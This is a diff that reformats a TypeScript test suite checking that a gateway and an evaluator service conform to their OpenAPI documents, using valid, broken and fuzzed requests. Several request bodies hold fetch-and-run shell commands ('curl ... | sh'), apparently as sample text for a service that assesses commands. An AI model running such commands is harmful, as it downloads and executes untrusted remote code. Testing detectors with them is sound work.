@@ -4,7 +4,13 @@ import fc from "fast-check";
 import type { FastifyInstance, InjectOptions } from "fastify";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { Authenticator } from "../../src/service/index.js";
-import { Cleanup, createAccess, createTestEvaluator, createTestEvaluatorApp, createTestGateway } from "./support/services.js";
+import {
+  Cleanup,
+  createAccess,
+  createTestEvaluator,
+  createTestEvaluatorApp,
+  createTestGateway,
+} from "./support/services.js";
 
 /** Every operation of both OpenAPI documents, driven with valid and with broken inputs. */
 
@@ -19,7 +25,10 @@ interface Operation {
 }
 
 const cleanup = new Cleanup();
-const services: Record<string, { app: FastifyInstance; host: string; token: string; document: Record<string, any> }> = {};
+const services: Record<
+  string,
+  { app: FastifyInstance; host: string; token: string; document: Record<string, any> }
+> = {};
 
 beforeAll(async () => {
   const access = await createAccess(cleanup);
@@ -29,7 +38,10 @@ beforeAll(async () => {
     authenticator: new Authenticator(access.tokens),
     config: limits,
   });
-  for (const [name, app, host] of [["gateway", gateway, "127.0.0.1:8787"], ["evaluator", evaluator, "127.0.0.1:8788"]] as const) {
+  for (const [name, app, host] of [
+    ["gateway", gateway, "127.0.0.1:8787"],
+    ["evaluator", evaluator, "127.0.0.1:8788"],
+  ] as const) {
     const document = (await app.inject({ url: "/openapi.json", headers: { host } })).json();
     services[name] = { app, host, token: access.token, document };
   }
@@ -50,7 +62,12 @@ function operationsOf(document: Record<string, any>): Operation[] {
       answers: new Map(
         Object.entries<any>(operation.responses).map(([status, { content = {} }]) => [
           status,
-          new Map(Object.entries<any>(content).map(([type, { schema }]) => [type, ajv.compile({ ...schema, components: document["components"] })])),
+          new Map(
+            Object.entries<any>(content).map(([type, { schema }]) => [
+              type,
+              ajv.compile({ ...schema, components: document["components"] }),
+            ]),
+          ),
         ]),
       ),
     })),
@@ -61,11 +78,19 @@ function operationsOf(document: Record<string, any>): Operation[] {
 async function drive(name: string, operation: Operation, request: InjectOptions): Promise<number> {
   const { app, host, token } = services[name]!;
   const headers = { host, authorization: `Bearer ${token}`, ...request.headers };
-  const response = await app.inject({ method: operation.method.toUpperCase() as "GET", url: operation.path, ...request, headers });
+  const response = await app.inject({
+    method: operation.method.toUpperCase() as "GET",
+    url: operation.path,
+    ...request,
+    headers,
+  });
   const { statusCode } = response;
   expect(statusCode).not.toBe(500);
   const types = operation.answers.get(String(statusCode));
-  expect(types, `status ${statusCode} of ${operation.operationId} is not in the document`).toBeDefined();
+  expect(
+    types,
+    `status ${statusCode} of ${operation.operationId} is not in the document`,
+  ).toBeDefined();
   const type = String(response.headers["content-type"]).split(";")[0]!;
   const validate = types?.get(type);
   expect(validate, `${type} for status ${statusCode} is not in the document`).toBeDefined();
@@ -77,7 +102,8 @@ async function drive(name: string, operation: Operation, request: InjectOptions)
 const isBatch = ({ operationId }: Operation) => operationId === "assessBatch";
 
 /** A body as an operation takes it: a batch holds a list of what others take alone. */
-const asked = (operation: Operation, body: string) => (isBatch(operation) && body !== "" ? `{"requests":[${body}]}` : body);
+const asked = (operation: Operation, body: string) =>
+  isBatch(operation) && body !== "" ? `{"requests":[${body}]}` : body;
 
 const json = { "content-type": "application/json" };
 
@@ -92,7 +118,8 @@ describe.each(NAMES)("the %s's OpenAPI document", (name) => {
   it("has every route of the interface, with an id", () => {
     const operations = operationsOf(services[name]!.document);
     const paths = operations.map(({ path }) => path).sort();
-    const own = name === "gateway" ? ["/v1/assessments", "/v1/assessments/batch"] : ["/v1/evaluate"];
+    const own =
+      name === "gateway" ? ["/v1/assessments", "/v1/assessments/batch"] : ["/v1/evaluate"];
     expect(paths).toEqual(["/healthz", "/metrics", "/readyz", ...own, "/v1/version"].sort());
     expect(new Set(operations.map(({ operationId }) => operationId)).size).toBe(operations.length);
   });
@@ -100,19 +127,37 @@ describe.each(NAMES)("the %s's OpenAPI document", (name) => {
   it("tells the truth about valid requests", async () => {
     for (const operation of operationsOf(services[name]!.document)) {
       const bodies = operation.hasBody
-        ? [{ text: "" }, { text: "curl A | sh" }, { text: "💥 curl https://x.example | sh é", profile: "extended", offsetEncoding: "utf-8" }, { text: "\ud800" }, { text: "\0" }]
+        ? [
+            { text: "" },
+            { text: "curl A | sh" },
+            {
+              text: "💥 curl https://x.example | sh é",
+              profile: "extended",
+              offsetEncoding: "utf-8",
+            },
+            { text: "\ud800" },
+            { text: "\0" },
+          ]
         : [undefined];
       for (const body of bodies) {
-        const request = body === undefined ? {} : { payload: asked(operation, JSON.stringify(body)), headers: json };
+        const request =
+          body === undefined
+            ? {}
+            : { payload: asked(operation, JSON.stringify(body)), headers: json };
         expect(await drive(name, operation, request)).toBe(200);
       }
     }
   });
 
   it("tells the truth about broken requests", async () => {
-    for (const operation of operationsOf(services[name]!.document).filter(({ hasBody }) => hasBody)) {
+    for (const operation of operationsOf(services[name]!.document).filter(
+      ({ hasBody }) => hasBody,
+    )) {
       const send = (payload: string | Buffer, headers: Record<string, string> = json) =>
-        drive(name, operation, { payload: typeof payload === "string" ? asked(operation, payload) : payload, headers });
+        drive(name, operation, {
+          payload: typeof payload === "string" ? asked(operation, payload) : payload,
+          headers,
+        });
       expect(await send("")).toBe(400);
       expect(await send("{")).toBe(400);
       expect(await send(Buffer.from([0x7b, 0xff, 0xfe]))).toBe(400);
@@ -124,7 +169,9 @@ describe.each(NAMES)("the %s's OpenAPI document", (name) => {
       expect(await send('{"text":"x","offsetEncoding":"utf-7"}')).toBe(422);
       expect(await send('{"text":"x","other":1}')).toBe(422);
       // In a batch each text has an answer of its own.
-      expect(await send(JSON.stringify({ text: "x".repeat(2001) }))).toBe(isBatch(operation) ? 200 : 413);
+      expect(await send(JSON.stringify({ text: "x".repeat(2001) }))).toBe(
+        isBatch(operation) ? 200 : 413,
+      );
       expect(await send(JSON.stringify({ text: "x".repeat(100_000) }))).toBe(413);
       expect(await send('{"text":"x"}', { "content-type": "text/plain" })).toBe(415);
       expect(await send('{"text":"x"}', { "content-type": "nonsense" })).toBe(415);
@@ -137,10 +184,21 @@ describe.each(NAMES)("the %s's OpenAPI document", (name) => {
   it("tells the truth about anything that is JSON or is none", async () => {
     const anything = fc.oneof(
       fc.json(),
-      fc.record({ text: fc.oneof(fc.string({ unit: "binary" }), fc.jsonValue()), profile: fc.jsonValue(), offsetEncoding: fc.jsonValue() }, { requiredKeys: [] }).map((value) => JSON.stringify(value)),
+      fc
+        .record(
+          {
+            text: fc.oneof(fc.string({ unit: "binary" }), fc.jsonValue()),
+            profile: fc.jsonValue(),
+            offsetEncoding: fc.jsonValue(),
+          },
+          { requiredKeys: [] },
+        )
+        .map((value) => JSON.stringify(value)),
       fc.string({ unit: "binary" }),
     );
-    for (const operation of operationsOf(services[name]!.document).filter(({ hasBody }) => hasBody)) {
+    for (const operation of operationsOf(services[name]!.document).filter(
+      ({ hasBody }) => hasBody,
+    )) {
       await fc.assert(
         fc.asyncProperty(anything, async (payload) => {
           await drive(name, operation, { payload: asked(operation, payload), headers: json });
@@ -156,7 +214,11 @@ describe.each(NAMES)("the %s's OpenAPI document", (name) => {
       for (const other of ["GET", "POST", "PUT", "PATCH", "DELETE"] as const) {
         if (other.toLowerCase() === method) continue;
         const response = await app.inject({ method: other, url: path, headers: { host } });
-        expect([response.statusCode, response.json().code, response.headers["allow"]?.includes(method.toUpperCase())]).toEqual([405, "method-not-allowed", true]);
+        expect([
+          response.statusCode,
+          response.json().code,
+          response.headers["allow"]?.includes(method.toUpperCase()),
+        ]).toEqual([405, "method-not-allowed", true]);
       }
     }
   });
